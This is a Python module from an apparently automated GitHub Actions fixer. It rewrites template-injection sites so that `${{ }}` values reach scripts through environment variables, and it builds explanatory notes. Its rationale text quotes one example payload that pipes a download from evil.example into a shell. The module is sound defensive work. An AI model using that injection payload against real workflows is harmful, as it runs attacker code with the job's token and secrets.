"""Render: one change per step (the script's edits and the step's new ``env:`` entries) and
one note per expression left as it is, with the precise risk."""

from __future__ import annotations

from fixbot import yamledit
from fixbot.errors import TransformError
from fixbot.kb.injection import GITHUB_DOCS, ZIZMOR_DOCS
from fixbot.transforms.template_injection.decide import Decision, Move
from fixbot.transforms.template_injection.extract import Site
from fixbot.types import Change, Edit, Finding, Note
from fixbot.workflow import Workflow
from fixbot.yamlmodel import Mapping

ID = "template-injection"


def findings(wf: Workflow, site: Site, d: Decision) -> list[Finding]:
    out: list[Finding] = []
    if d.moves:
        try:
            out.append(_change(site, d, _edits(wf, site, d)))
        except TransformError as e:
            out += [Note(ID, site.location, f"left as it is: `{m.expression}` in the "
                         f"script of {site.label}: the edit cannot be written ({e})")
                    for m in d.moves]
    for leave in d.leaves:
        out.append(Note(ID, site.location, (
            f"left as it is: `{leave.expression}` in the {_what(site)} of {site.label}"
            f"{_who(leave.verdict.why)}: {leave.why}")))
    return out


def _what(site: Site) -> str:
    return "`script` input" if site.kind == "github-script" else "`run` script"


def _who(why: str) -> str:
    return f" ({why})" if why else ""


def _edits(wf: Workflow, site: Site, d: Decision) -> list[Edit]:
    doc = wf.doc
    repls = d.replaces if d.replaces is not None else [m.replace for m in d.moves]
    edits = [yamledit.splice_scalar(doc, site.node, repls)]
    if d.env:
        env = site.step.get("env")
        if isinstance(env, Mapping):
            edits += [yamledit.set_key(doc, env, k, v, wf.style) for k, v in d.env.items()]
        elif env is None:
            edits.append(yamledit.set_key(doc, site.step, "env", dict(d.env), wf.style,
                                          before=("run", "with")))
        else:
            raise TransformError("the step's `env:` is not a mapping")
    return edits


def _distinct(moves: list[Move]) -> list[Move]:
    seen: dict[str, Move] = {}
    for m in moves:
        seen.setdefault(m.var, m)
    return list(seen.values())


def _change(site: Site, d: Decision, edits: list[Edit]) -> Change:
    moves = _distinct(d.moves)
    shown = ", ".join(f"`{m.verdict.ref.text if m.verdict.ref else m.expression.strip()}`"
                      for m in moves)
    summary = f"pass {shown} to the script through environment variables"
    why: list[str] = []
    attackers = [m for m in moves if m.verdict.kind == "attacker"]
    unknown = [m for m in moves if m.verdict.kind == "unknown"]
    if attackers:
        why.append("; ".join(m.verdict.why for m in attackers).capitalize()[:1]
                   + "; ".join(m.verdict.why for m in attackers)[1:] + ".")
    if unknown:
        why.append("Moved as well, though fixbot cannot tell who writes it: "
                   + "; ".join(m.verdict.why for m in unknown) + ".")
    why.append(
        "GitHub pastes the value of a `${{ }}` expression into the script's text before the "
        "shell runs it, so a value such as `\"; curl https://evil.example | sh; #` ends the "
        "quoted string and runs as code, with the job's token and secrets at hand. An "
        "environment variable is handed to the shell as data, which it never parses as code, "
        f"and for any ordinary value the script behaves as before ([script injections]({GITHUB_DOCS}); "
        f"[zizmor: template-injection]({ZIZMOR_DOCS})).")
    reads: list[str] = []
    for m in moves:
        source = ("a variable the runner sets itself" if m.runner_env else
                  "the step's `env:`" if m.var in d.env else "the `env:` that already holds it")
        reads.append(f"`{m.var}` ({source})")
    if d.language == "javascript":
        why.append("The JavaScript now reads " + ", ".join(reads) + " as "
                   "`${process.env.NAME}` inside a template literal (a `'…'` or `\"…\"` string "
                   "holding it becomes a template literal with the same text), which JavaScript "
                   "never runs as code.")
    elif d.language == "python":
        why.append("The Python script now reads " + ", ".join(reads) + " as "
                   "`os.environ[\"NAME\"]`: a string literal holding it becomes a concatenation "
                   "in parentheses with the same text (`import os` added where the script lacks "
                   "it), which Python never runs as code.")
    elif d.replaces is not None:
        why.append("The PowerShell script now reads " + ", ".join(reads) + " as `$env:NAME` "
                   "(`${env:NAME}` inside a `\"…\"` string; a `'…'` string holding it becomes "
                   "a concatenation), which PowerShell never runs as code.")
    else:
        why.append("The script now reads " + ", ".join(reads) + ", quoted for where each "
                   "expression was (inside double quotes, single quotes closed around it, a bare "
                   "word quoted, an unquoted here-document).")
    bare = [m.var for m in moves if m.unquoted]
    if bare:
        why.append(", ".join(f"`${{{v}}}`" for v in bare) + " stays unquoted where the "
                   "expression was a bare word, so a value holding several words (a list of "
                   "arguments) still splits into them as before; it can add arguments but "
                   "no longer run commands.")
    return Change(ID, site.location, site.node.line + 1, summary, " ".join(why), tuple(edits),
                  docs=GITHUB_DOCS)
